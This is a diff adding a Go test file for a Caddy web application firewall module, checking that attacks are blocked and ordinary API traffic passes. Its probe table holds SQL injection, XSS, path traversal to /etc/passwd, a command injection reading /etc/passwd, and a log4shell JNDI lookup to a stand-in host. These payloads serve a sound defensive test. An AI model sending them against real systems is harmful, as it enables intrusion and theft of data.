@@ -1,0 +1,217 @@
+package waf
+
+import (
+	"context"
+	"encoding/json"
+	"fmt"
+	"io"
+	"net"
+	"net/http"
+	"net/http/httptest"
+	"net/url"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/caddyserver/caddy/v2"
+	"github.com/caddyserver/caddy/v2/caddyconfig"
+	"github.com/caddyserver/caddy/v2/modules/caddyhttp"
+	_ "github.com/caddyserver/caddy/v2/modules/standard"
+	"go.uber.org/zap"
+	"go.uber.org/zap/zaptest/observer"
+)
+
+func freePort(t *testing.T) int {
+	ln, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer ln.Close()
+	return ln.Addr().(*net.TCPAddr).Port
+}
+
+// startCaddy runs Caddy in this process with a site whose body is given,
+// in front of a backend that echoes the body it got; it returns the
+// site's URL and the backend's hit counter.
+func startCaddy(t *testing.T, wafBlock string) (string, *int) {
+	t.Helper()
+	hits := new(int)
+	backend := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		*hits++
+		body, _ := io.ReadAll(r.Body)
+		w.Header().Set("Content-Type", "application/json")
+		fmt.Fprintf(w, `{"got": %q}`, body)
+	}))
+	t.Cleanup(backend.Close)
+	port := freePort(t)
+	cfg := fmt.Sprintf(`{
+	admin off
+	persist_config off
+	log {
+		output discard
+	}
+}
+http://127.0.0.1:%d {
+	%s
+	reverse_proxy %s
+}
+`, port, wafBlock, strings.TrimPrefix(backend.URL, "http://"))
+	raw, _, err := caddyconfig.GetAdapter("caddyfile").Adapt([]byte(cfg), nil)
+	if err != nil {
+		t.Fatalf("adapting: %v\n%s", err, cfg)
+	}
+	if err := caddy.Load(raw, true); err != nil {
+		t.Fatalf("loading: %v", err)
+	}
+	t.Cleanup(func() { _ = caddy.Stop() })
+	return fmt.Sprintf("http://127.0.0.1:%d", port), hits
+}
+
+type probe struct {
+	name, method, path, contentType, body string
+	header                                http.Header
+}
+
+func send(t *testing.T, base string, p probe) (int, string) {
+	t.Helper()
+	req, err := http.NewRequest(p.method, base+p.path, strings.NewReader(p.body))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if p.contentType != "" {
+		req.Header.Set("Content-Type", p.contentType)
+	}
+	req.Header.Set("User-Agent", "Mozilla/5.0 (X11; Linux x86_64) gateway-test")
+	req.Header.Set("Accept", "application/json")
+	for k, v := range p.header {
+		req.Header[k] = v
+	}
+	client := &http.Client{Timeout: 10 * time.Second}
+	resp, err := client.Do(req)
+	if err != nil {
+		t.Fatalf("%s: %v", p.name, err)
+	}
+	defer resp.Body.Close()
+	b, _ := io.ReadAll(resp.Body)
+	return resp.StatusCode, string(b)
+}
+
+// TestAttacksAreRefusedBenignRequestsPass runs a table of classic attacks
+// and one of ordinary API traffic through a real Caddy at paranoia 1.
+func TestAttacksAreRefusedBenignRequestsPass(t *testing.T) {
+	base, hits := startCaddy(t, "waf")
+	q := url.QueryEscape
+	attacks := []probe{
+		{name: "SQL injection in the query", method: "GET", path: "/items?id=" + q("1' OR '1'='1' --")},
+		{name: "SQL injection, UNION SELECT", method: "GET", path: "/items?id=" + q("1 UNION SELECT username, password FROM users")},
+		{name: "SQL injection in a form", method: "POST", path: "/login", contentType: "application/x-www-form-urlencoded",
+			body: "user=" + q("admin'--") + "&pass=" + q("x' OR 1=1 --")},
+		{name: "SQL injection in a JSON body", method: "POST", path: "/api/users", contentType: "application/json",
+			body: `{"name": "x' UNION SELECT password FROM users --"}`},
+		{name: "SQL injection in a header (Referer)", method: "GET", path: "/", header: http.Header{"Referer": {"https://example.com/?id=1' UNION SELECT password FROM users --"}}},
+		{name: "SQL injection in a cookie", method: "GET", path: "/", header: http.Header{"Cookie": {"session=1' OR '1'='1' --"}}},
+		{name: "XSS in the query", method: "GET", path: "/search?q=" + q("<script>alert(document.cookie)</script>")},
+		{name: "XSS in a JSON body", method: "POST", path: "/api/comments", contentType: "application/json",
+			body: `{"text": "<img src=x onerror=alert(1)>"}`},
+		{name: "path traversal", method: "GET", path: "/download?file=" + q("../../../../etc/passwd")},
+		{name: "command injection", method: "GET", path: "/ping?host=" + q("127.0.0.1; cat /etc/passwd")},
+		{name: "log4shell lookup", method: "GET", path: "/", header: http.Header{"X-Api-Version": {"${jndi:ldap://evil.example/a}"}}},
+	}
+	for _, p := range attacks {
+		before := *hits
+		code, body := send(t, base, p)
+		var answer struct {
+			Error     string `json:"error"`
+			RequestID string `json:"request_id"`
+		}
+		if code != http.StatusForbidden || json.Unmarshal([]byte(body), &answer) != nil || answer.RequestID == "" ||
+			strings.Contains(body, "SecRule") || *hits != before {
+			t.Errorf("%s: %d %s (backend hits +%d), want 403 with a request id", p.name, code, body, *hits-before)
+		}
+	}
+	benign := []probe{
+		{name: "a JSON API call", method: "POST", path: "/registry/services/hello_service", contentType: "application/json",
+			body: `{"address": "127.0.0.1:9090", "ttl": "30s", "metadata": {"version": "2", "zone": "eu-1"}, "health": {"path": "/healthz"}}`},
+		{name: "the seed's text registration", method: "POST", path: "/registry/register_service", contentType: "text/plain", body: "hello_service,127.0.0.1:9090"},
+		{name: "a search with quotes and an apostrophe", method: "GET", path: "/search?q=" + q(`O'Brien "quoted words" rock'n'roll`)},
+		{name: "non-ASCII text", method: "POST", path: "/api/notes", contentType: "application/json",
+			body: `{"title": "Grüße aus Köln", "body": "日本語のテキスト, émoji 🎉, naïve café"}`},
+		{name: "a bearer token", method: "GET", path: "/hello_service/greet",
+			header: http.Header{"Authorization": {"Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJ1c2VyLTcifQ.c2lnbmF0dXJl"}}},
+		{name: "a query with an email", method: "GET", path: "/users?email=" + q("jane.doe+test@example.com") + "&sort=-created_at"},
+	}
+	for _, p := range benign {
+		if code, body := send(t, base, p); code != http.StatusOK {
+			t.Errorf("%s: %d %s, want 200 (a false positive)", p.name, code, body)
+		}
+	}
+	// the body the backend gets is the one the client sent
+	_, body := send(t, base, benign[0])
+	if !strings.Contains(body, `metadata`) {
+		t.Errorf("the inspected body did not reach the backend whole: %s", body)
+	}
+}
+
+// TestDetectModeLetsAttacksThrough: mode detect logs and passes.
+func TestDetectModeLetsAttacksThrough(t *testing.T) {
+	base, hits := startCaddy(t, "waf {\n\t\tmode detect\n\t}")
+	if code, _ := send(t, base, probe{name: "sqli", method: "GET", path: "/items?id=" + url.QueryEscape("1' OR '1'='1' --")}); code != http.StatusOK || *hits != 1 {
+		t.Fatalf("mode detect: %d, backend hits %d; want the request passed", code, *hits)
+	}
+}
+
+func TestCaddyfileErrors(t *testing.T) {
+	for block, want := range map[string]string{
+		"waf {\n\t\tparanoia x\n\t}": `paranoia "x": want a whole number`,
+		"waf {\n\t\tmode off\n\t}":   "mode takes block or detect",
+		"waf {\n\t\tbogus 1\n\t}":    `unknown waf option "bogus"`,
+		"waf {\n\t\trules\n\t}":      "rules takes one or more files",
+		"waf extra":                  "waf takes no arguments",
+	} {
+		cfg := "http://127.0.0.1:1 {\n\t" + block + "\n\trespond ok\n}\n"
+		if _, _, err := caddyconfig.GetAdapter("caddyfile").Adapt([]byte(cfg), nil); err == nil || !strings.Contains(err.Error(), want) {
+			t.Errorf("%q: %v, want %q", block, err, want)
+		}
+	}
+	for _, w := range []WAF{{Paranoia: 5, AnomalyThreshold: 5, Mode: "block"}, {Paranoia: 1, AnomalyThreshold: 0, Mode: "block"}, {Paranoia: 1, AnomalyThreshold: 5, Mode: "x"}} {
+		if err := w.Validate(); err == nil {
+			t.Errorf("Validate(%+v) accepted it", w)
+		}
+	}
+}
+
+// TestRefusalLogNamesRulesNotSecrets: the log line of a refusal names the
+// rule ids, the variables and the anomaly score; it never holds the
+// Authorization header's value.
+func TestRefusalLogNamesRulesNotSecrets(t *testing.T) {
+	ctx, cancel := caddy.NewContext(caddy.Context{Context: context.Background()})
+	defer cancel()
+	w := &WAF{}
+	if err := w.Provision(ctx); err != nil {
+		t.Fatal(err)
+	}
+	core, logs := observer.New(zap.DebugLevel)
+	w.logger = zap.New(core)
+	req := httptest.NewRequest("GET", "/items?id="+url.QueryEscape("1' OR '1'='1' --"), nil)
+	req.Header.Set("Authorization", "Bearer secret-token-value")
+	req.Header.Set("User-Agent", "test")
+	rec := httptest.NewRecorder()
+	if err := w.ServeHTTP(rec, req, caddyhttp.HandlerFunc(func(http.ResponseWriter, *http.Request) error { return nil })); err != nil {
+		t.Fatal(err)
+	}
+	if rec.Code != http.StatusForbidden {
+		t.Fatalf("status %d", rec.Code)
+	}
+	entries := logs.FilterMessage("waf refused a request").All()
+	if len(entries) != 1 {
+		t.Fatalf("%d log lines", len(entries))
+	}
+	fields := entries[0].ContextMap()
+	if ids := fmt.Sprint(fields["rule_ids"]); ids != "[942100]" || fmt.Sprint(fields["variables"]) != "[ARGS:id]" ||
+		!strings.Contains(fmt.Sprint(fields["anomaly"]), "Total Score: 5") {
+		t.Fatalf("log fields %v", fields)
+	}
+	if strings.Contains(fmt.Sprint(fields), "secret-token-value") {
+		t.Fatal("the log line holds the Authorization header's value")
+	}
+}
